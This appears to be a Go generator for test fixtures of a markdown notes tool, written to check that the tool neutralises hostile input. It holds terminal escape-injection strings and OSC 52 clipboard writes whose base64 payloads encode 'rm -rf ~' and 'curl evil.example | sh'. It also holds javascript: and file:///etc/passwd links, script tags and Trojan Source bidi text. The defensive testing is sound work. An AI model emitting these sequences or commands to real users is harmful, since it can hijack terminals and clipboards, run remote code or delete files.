//go:build ignore

// gen writes the hostile notes fixtures of this directory. The fixtures are
// committed; this program documents what each one holds, byte for byte, and
// regenerates them:
//
//	go run ./testdata/hostile/gen.go
//
// Every fixture is a notes file in the real format (a "# " title and talks
// with a speaker line and a rating line), so that the hostile bytes reach
// every field and every output format instead of stopping at the parser.
// Big inputs (10 MB line, 100,000 talks, 1,000 nested levels) are generated
// at test time by hostile_test.go rather than committed.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

const (
	esc = "\x1b"
	bel = "\x07"
	st  = esc + `\`
)

// talk builds one talk section.
func talk(title, speaker, url, rating, body string) string {
	return "## " + title + "\n> " + speaker + " - " + url + "\n\n" + rating + "\n\n" + body + "\n\n"
}

const three = ":three: :star: :star: :star:"

// hostile builds the usual fixture: a document title, a first talk with
// the hostile text in its title, speaker, URL and notes under a clean
// rating line, a second talk whose rating line carries the hostile text
// (whether that still reads as a rating line is the parser's call), and a
// clean last talk titled "Last" that must always survive.
func hostile(docTitle, title, speaker, url, rating, body string) string {
	return "# " + docTitle + "\n\n" +
		talk(title, speaker, url, three, body) +
		talk("Rating line", "Rater", "https://example.net/", rating, "The rating line above is hostile.") +
		talk("Last", "Mallory - Evil Corp", "https://example.org/", three, "Nothing here.")
}

var fixtures = map[string]string{
	// ANSI CSI sequences: cursor moves, clear screen, alternate screen,
	// hidden cursor, mouse reporting, scroll region, colours, queries.
	"csi.md": hostile("Hostile "+esc+"[2J"+esc+"[H"+"CSI",
		"Clear "+esc+"[2J"+esc+"[3J"+esc+"[Hscreen title",
		"Eve "+esc+"[10;10H"+esc+"[31mRed"+esc+"[0m",
		"https://example.com/"+esc+"[A"+esc+"[K",
		":three: :star: "+esc+"[1A:star: :star:",
		"Body with cursor up "+esc+"[5A and erase "+esc+"[2K line.\n\n"+
			"- alt screen "+esc+"[?1049h, hidden cursor "+esc+"[?25l\n"+
			"- mouse "+esc+"[?1000h"+esc+"[?1003h"+esc+"[?1006h, scroll region "+esc+"[1;3r\n"+
			"- device status report "+esc+"[6n and "+esc+"[c\n"+
			"- save/restore "+esc+"7"+esc+"8 and reset "+esc+"c\n\n"+
			"### Heading "+esc+"[2J\n\n"+
			"```go\nfmt.Println(\""+esc+"[2J\") // escape inside code\n```\n\n"+
			"`inline "+esc+"[31mcode`"),

	// OSC 52: write the clipboard, BEL- and ST-terminated, and a query.
	"osc52.md": hostile("Hostile OSC 52"+esc+"]52;c;cHduZWQ="+bel,
		"Clip"+esc+"]52;c;cm0gLXJmIH4K"+bel+"board",
		"Eve"+esc+"]52;p;ZWNobyBwd25lZAo="+st,
		"https://example.com/"+esc+"]52;c;?"+bel,
		three+esc+"]52;c;cHduZWQ="+bel,
		"Paste this: "+esc+"]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo="+bel+" now.\n\n"+
			"> quote "+esc+"]52;s;ZXZpbA=="+st+"\n\n"+
			"```\n"+esc+"]52;c;aW4gY29kZQ=="+bel+"\n```"),

	// OSC 0 and OSC 2: change the window title; OSC 1 the icon name.
	"osc-title.md": hostile("Hostile "+esc+"]0;pwned"+bel+"titles",
		"Title"+esc+"]0;owned window"+bel+" change",
		"Eve"+esc+"]2;owned"+st,
		"https://example.com/"+esc+"]1;icon"+bel,
		three+esc+"]0;rating"+bel,
		"Body "+esc+"]0;body title"+bel+" and "+esc+"]2;st title"+st+".\n\n"+
			"- list "+esc+"]0;in list"+bel+" item"),

	// OSC 8 hyperlinks written raw, with javascript: and file: targets.
	"osc8.md": hostile("Hostile OSC 8",
		esc+"]8;;javascript:alert(1)"+bel+"Click title"+esc+"]8;;"+bel,
		esc+"]8;;file:///etc/passwd"+st+"Eve"+esc+"]8;;"+st,
		"https://example.com/"+esc+"]8;;javascript:alert(2)"+bel+"x"+esc+"]8;;"+bel,
		esc+"]8;;file:///"+bel+three+esc+"]8;;"+bel,
		"Raw link "+esc+"]8;;javascript:alert(document.cookie)"+bel+"safe text"+esc+"]8;;"+bel+".\n\n"+
			"File "+esc+"]8;id=1;file:///etc/shadow"+st+"open me"+esc+"]8;;"+st+".\n\n"+
			"- "+esc+"]8;;vbscript:msgbox"+bel+"vb"+esc+"]8;;"+bel),

	// Markdown links, autolinks, images and HTML with dangerous schemes.
	// None of them may become a clickable (OSC 8) link; only http, https and
	// mailto may. The last talk has a file: speaker URL and a javascript:
	// second header line.
	"links.md": "# Hostile links\n\n" +
		talk("Links [t](javascript:alert(0))", "Eve",
			"javascript:alert(1)", three,
			"- [x](javascript:alert(1))\n"+
				"- [y](file:///etc/passwd)\n"+
				"- [upper](JAVASCRIPT:alert(1))\n"+
				"- [entity](&#106;avascript:alert(1))\n"+
				"- [tab](java\tscript:alert(1))\n"+
				"- [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"+
				"- [vb](vbscript:msgbox(1))\n"+
				"- [ssh](ssh://evil.example.com/)\n"+
				"- [relative](/etc/passwd) and [dot](../../etc/passwd)\n"+
				"- [ref][r]\n"+
				"- <javascript:alert(2)>\n"+
				"- <file:///etc/shadow>\n"+
				"- ![img](javascript:alert(3))\n"+
				"- ![img2](file:///etc/passwd =512x)\n"+
				"- <a href=\"javascript:alert(4)\">html</a> <script>alert(5)</script>\n"+
				"- [ok](https://example.com/ok) and [mail](mailto:eve@example.com) and <https://example.com/auto>\n"+
				"- [esc in url](https://example.com/%1b[2J) and [bel](https://example.com/\x07)\n\n"+
				"[r]: file:///etc/hosts") +
		"## Last\n> Mallory - file:///etc/passwd\n> javascript:alert(6)\n\n" + three + "\n\nNothing.\n\n",

	// C1 controls U+0080..U+009F encoded as UTF-8 (two bytes each), among
	// them U+009B (CSI), U+009D (OSC) and U+009C (ST), which some terminals
	// obey like ESC [ and ESC ].
	"c1-utf8.md": hostile("Hostile C1 \u009b2J UTF-8",
		"C1 \u009b2J\u009bH title", "Eve \u009d0;owned\u009c",
		"https://example.com/\u009b1A", three+" \u0085",
		"All C1: "+allC1UTF8()+".\n\n"+
			"- CSI clear \u009b2J, OSC 52 \u009d52;c;cHduZWQ=\u009c, DCS \u0090q\u009c\n"+
			"- NEL \u0085 and IND \u0084 and RI \u008d"),

	// The same C1 controls as raw single bytes 0x80..0x9F, which is invalid
	// UTF-8; an 8-bit terminal reads 0x9B as CSI.
	"c1-raw.md": hostile("Hostile C1 \x9b2J raw",
		"C1 \x9b2J\x9bH title", "Eve \x9d0;owned\x9c",
		"https://example.com/\x9b1A", three+" \x85",
		"All C1: "+allC1Raw()+".\n\n"+
			"- CSI clear \x9b2J, OSC 52 \x9d52;c;cHduZWQ=\x9c"),

	// Bidirectional overrides and isolates (Trojan Source): text that reads
	// differently from what it is.
	"bidi.md": hostile("Hostile \u202ebidi\u202c",
		"Admin \u202eevil\u202c title \u2066isolate\u2069",
		"Eve \u202dLRO\u202c \u202aLRE\u202c \u202bRLE\u202c \u200f\u200e",
		"https://example.com/\u202egpj.exe",
		three+" \u202e",
		"if access \u202e } \u2066if (isAdmin)\u2069 \u2066 { begin admins only\n\n"+
			"- RLI \u2067x\u2069 FSI \u2068y\u2069 ALM \u061c\n"+
			"- `\u202e code \u202c`"),

	// Zero-width and invisible characters, a BOM at the start and inside.
	"zero-width.md": "\ufeff" + hostile("Hostile zero\u200bwidth",
		"Zero\u200bwidth\u200c\u200d\u2060title\ufeff",
		"E\u200bv\u00ade\u2062",
		"https://exam\u200bple.com/",
		":three: :st\u200bar: :star: :star:",
		"Invisible \u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u180e characters.\n\n"+
			"Hangul filler \u3164 and \u115f, tag chars \U000E0041\U000E007F."),

	// Invalid UTF-8: stray continuation bytes, truncated sequences, overlong
	// encodings (of '/' and of NUL), UTF-16 surrogates, 0xFE/0xFF.
	"invalid-utf8.md": hostile("Hostile \xff\xfe UTF-8",
		"Bad \xc3 title \x80\x80", "Eve \xe2\x82", "https://example.com/\xc0\xaf",
		three+" \xf0\x9f",
		"Overlong NUL \xc0\x80, surrogate \xed\xa0\x80\xed\xb0\x80, too big \xf4\x90\x80\x80, "+
			"5-byte \xf8\x88\x80\x80\x80, lone \xfe \xff.\n\n"+
			"- truncated at end of line \xe2\x82\n"+
			"- `code \xff`\n\n"+
			"Ends with a truncated rune \xf0\x9f\x98"),

	// C0 controls (NUL, BEL, BS, VT, FF, CR, SO, SI, DEL, ESC alone) in the
	// title, speaker, URL and rating line; CR lets a line overwrite itself.
	"control-fields.md": hostile("Hostile\x00 \x07controls\r",
		"Ti\x00tle\x07 with\x08\x08\x08 back\rspace\x0b\x0c\x7f",
		"Sp\x00eak\x1ber\x0e\x0f\r",
		"https://exa\x00mple.com/\x07\x1b",
		":three:\x07 :star:\x00 :star:\r :star:\x1b",
		"Body\x00 with\x07 bell, back\x08space, vertical\x0btab, form\x0cfeed, carriage\rreturn, "+
			"DEL\x7f, lone ESC \x1b and ESC at end \x1b\n\n"+
			"\x1b\x1b\x1b[[[2J\n\n"+
			"- tab\tis fine\n"),

	// CRLF line endings throughout, and lone CRs inside lines.
	"crlf.md": strings.ReplaceAll(hostile("Hostile CRLF",
		"CRLF title", "Eve", "https://example.com/", three+"\r",
		"Line one.\nLine two with a lone \r carriage return.\n\n- item\n- item"), "\n", "\r\n"),

	// HTML entities that decode to control characters: the parser sees plain
	// text, but a markdown renderer turns &#27; into ESC and &#x9b; into CSI.
	"entities.md": hostile("Hostile &#27;[2J entities",
		"Entity &#27;[2J&#x1b;[H title &#7;", "Eve &#x1B;]0;owned&#7;",
		"https://example.com/&#27;[A", three+" &#27;",
		"Clear &#27;[2J&#27;[H screen, OSC 52 &#x1b;]52;c;cHduZWQ=&#x07;, "+
			"C1 CSI &#155;2J &#x9b;H &#x9d;0;t&#x9c;, NUL &#0;, BEL &#7;, DEL &#127;.\n\n"+
			"- title &#x1b;]0;pwned&#x7;\n"+
			"- link [x](https://example.com/&#27;[2J)\n"+
			"- bidi &#x202e;evil&#x202c;, zero-width &#x200b;\n"+
			"- `code &#27;[2J` (code spans keep the entity literally)"),

	// Escape sequences hidden inside code blocks that a syntax highlighter
	// (chroma) tokenises, in several languages.
	"code.md": hostile("Hostile code",
		"Code", "Eve", "https://example.com/", three,
		"```go\npackage main\n\nconst s = \""+esc+"[2J"+esc+"]0;t"+bel+"\"\n// "+esc+"]52;c;cHduZWQ="+bel+"\n```\n\n"+
			"```sh\necho -e '\\e[2J' "+esc+"[31m\n```\n\n"+
			"```json\n{\"a\": \"\u009b2J\"}\n```\n\n"+
			"    indented "+esc+"[2J code\n\n"+
			"```\n"+esc+"P+q544e"+st+" DCS, "+esc+"_APC"+st+", "+esc+"^PM"+st+"\n```"),

	// Markdown that stresses a renderer without being big: tables with
	// controls, deep headings, emphasis runs, reference loops.
	"markdown.md": hostile("Hostile markdown",
		"Markdown", "Eve", "https://example.com/", three,
		"| a"+esc+"[2J | b |\n|---|---|\n| "+esc+"]0;t"+bel+" | \u009b2J |\n\n"+
			"#### "+esc+"[2J deep heading\n\n"+
			strings.Repeat("*", 200)+"text"+strings.Repeat("_", 200)+"\n\n"+
			strings.Repeat("[", 300)+"x"+strings.Repeat("]", 300)+"(https://example.com)\n\n"+
			"> > > > > > nested "+esc+"[2J quote\n\n"+
			"- [ ] task "+esc+"[2J\n- [x] done\n\n"+
			"Footnote[^1] :star: :smile: :"+esc+"[2J:\n\n[^1]: note "+esc+"[2J"),

	// Files that are not notes: these must fail with one clear line and
	// exit code 2.
	"empty.md":    "",
	"no-talks.md": "# Just a title\n\n## About us\n\nNo talk here: no rating line.\n\x1b[2J\n",
	"binary.md":   "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00\x1b[2J\x1b]0;pwned\x07\x00\xff\xfe",
}

func allC1UTF8() string {
	var b strings.Builder
	for r := rune(0x80); r <= 0x9f; r++ {
		b.WriteRune(r)
	}
	return b.String()
}

func allC1Raw() string {
	var b []byte
	for c := 0x80; c <= 0x9f; c++ {
		b = append(b, byte(c))
	}
	return string(b)
}

func main() {
	dir := filepath.Join("testdata", "hostile")
	if _, err := os.Stat(dir); err != nil {
		dir = "."
	}
	for name, content := range fixtures {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}
